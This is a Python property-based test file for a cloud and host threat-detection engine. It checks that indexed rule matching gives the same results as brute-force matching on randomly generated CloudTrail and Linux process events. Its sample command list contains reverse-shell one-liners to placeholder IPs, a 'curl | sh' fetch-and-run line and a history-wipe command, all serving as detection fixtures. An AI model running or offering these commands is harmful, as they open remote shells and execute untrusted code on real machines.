"""The indexed engine gives exactly the matches of a brute-force evaluation of every rule."""

from __future__ import annotations

from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from cloudwarden.detect.engine import load_rules, load_rules_text
from tests.detect.helpers import rule_yaml

NAMES = ["CreateBucket", "PutBucketPolicy", "StopLogging", "DeleteTrail", "ConsoleLogin", "CreateAccessKey",
         "AuthorizeSecurityGroupIngress", "GetSecretValue", "ListBuckets", "DisableKey", "Other"]
SOURCES = ["s3.amazonaws.com", "cloudtrail.amazonaws.com", "iam.amazonaws.com", "ec2.amazonaws.com",
           "signin.amazonaws.com", "kms.amazonaws.com", "secretsmanager.amazonaws.com"]
IMAGES = ["/usr/bin/curl", "/bin/bash", "/usr/bin/wget", "/tmp/x/curl", "/usr/sbin/sshd", "nc", "C:\\bin\\curl",
          "/usr/bin/nc", "/usr/bin/python3", "/tmp/xmrig"]
COMMANDS = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "curl http://x | sh", "ls -la", "nc -e /bin/sh 1.2.3.4 9",
            "history -c", "crontab -l", "python3 -c 'import pty'"]

EXTRA_RULES = "\n---\n".join([
    rule_yaml({"sel": {"eventName": ["CreateBucket", "DeleteTrail"], "eventSource|endswith": ".amazonaws.com"},
               "condition": "sel"}),
    rule_yaml({"a": {"eventName": "StopLogging"}, "b": {"eventSource": "kms.amazonaws.com"}, "condition": "a or b"}),
    rule_yaml({"a": {"eventName": "StopLogging"}, "b": {"eventName": "ListBuckets"}, "condition": "not a and not b"}),
    rule_yaml({"sel": {"Image|endswith": ["/curl", "/wget"]}, "condition": "sel"}, logsource={"product": "linux", "category": "process_creation"}),
    rule_yaml({"sel": {"Image": "/usr/sbin/sshd", "User": "root"}, "condition": "sel"}, logsource={"product": "linux", "category": "process_creation"}),
    rule_yaml({"sel": {"eventName|cased": "ConsoleLogin"}, "condition": "sel"}),
    rule_yaml({"k": ["curl"], "condition": "k"}),
    rule_yaml({"sel": {"eventName": ["GetSecretValue"], "tags": "prod"}, "condition": "sel"}),
])

RULESET = load_rules([], include_builtin="cloudtrail")
EXTRA = load_rules_text(EXTRA_RULES, include_builtin=True)  # with the Linux built-ins: presence/basename keys


def _case(draw_name: str, cased: bool) -> str:
    return draw_name if not cased else draw_name.upper()


events = st.fixed_dictionaries(
    {
        "eventName": st.one_of(st.sampled_from(NAMES), st.builds(_case, st.sampled_from(NAMES), st.booleans()),
                               st.lists(st.sampled_from(NAMES), max_size=2), st.none()),
        "eventSource": st.sampled_from(SOURCES),
        "userIdentity": st.fixed_dictionaries({"type": st.sampled_from(["IAMUser", "Root", "AssumedRole"]),
                                               "userName": st.sampled_from(["alice", "bob"])}),
        "Image": st.sampled_from(IMAGES),
        "User": st.sampled_from(["root", "www"]),
        "CommandLine": st.one_of(st.none(), st.sampled_from(COMMANDS)),
        "ParentImage": st.sampled_from(IMAGES),
        "TargetFilename": st.sampled_from(["/etc/crontab", "/etc/sudoers", "/home/a/.bashrc", "/tmp/x"]),
        "tags": st.lists(st.sampled_from(["prod", "dev"]), max_size=2),
        "errorCode": st.one_of(st.none(), st.just("AccessDenied")),
        "userAgent": st.sampled_from(["aws-cli/2", "Pacu/1.0", "Boto3"]),
        "requestParameters": st.fixed_dictionaries({"userName": st.sampled_from(["alice", "bob"])}),
    }
)


def _ids(matches: list[Any]) -> list[str]:
    return [m.rule.id for m in matches]


@settings(max_examples=300, deadline=None)
@given(events)
def test_index_equals_brute_force_on_random_events(event: dict[str, Any]) -> None:
    for rs in (RULESET, EXTRA):
        assert _ids(rs.match(event, include_silent=True)) == _ids(rs.match_naive(event, include_silent=True))


def test_index_skips_rules_that_cannot_match() -> None:
    event = {"eventSource": "s3.amazonaws.com", "eventName": "CreateBucket", "userIdentity": {"type": "IAMUser"}}
    candidates = RULESET._candidates(event)
    assert len(candidates) < len(RULESET.compiled()) / 4
    assert "eq:eventName" in RULESET.index_fields


def test_basename_index_for_host_rules() -> None:
    assert any(f.endswith(":Image") for f in EXTRA.index_fields)
    assert _ids(EXTRA.match({"Image": "/opt/tools/curl"})) == _ids(EXTRA.match_naive({"Image": "/opt/tools/curl"}))
    assert EXTRA.match({"Image": "/opt/tools/curl"})


def test_select_by_logsource() -> None:
    both = load_rules([], include_builtin=True)
    aws = both.select(product="aws")
    assert aws.rules and all(r.logsource.product in (None, "aws") for r in aws.rules if r.kind == "single")
    assert len(aws.rules) < len(both.rules) or not any(r.logsource.product == "linux" for r in both.rules)
    assert any(r.kind == "correlation" for r in aws.rules)  # the secrets burst keeps its base rule
    event = {"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging", "userIdentity": {"type": "IAMUser"}}
    assert _ids(aws.match(event)) == _ids(both.match(event))
